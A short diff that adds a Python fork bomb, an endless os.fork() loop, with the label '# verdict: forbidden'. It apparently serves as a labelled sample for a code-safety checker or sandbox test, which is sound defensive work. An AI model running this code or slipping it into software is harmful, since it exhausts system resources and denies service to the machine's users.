@@ -1,0 +1,5 @@
+# verdict: forbidden
+import os
+
+while True:
+    os.fork()
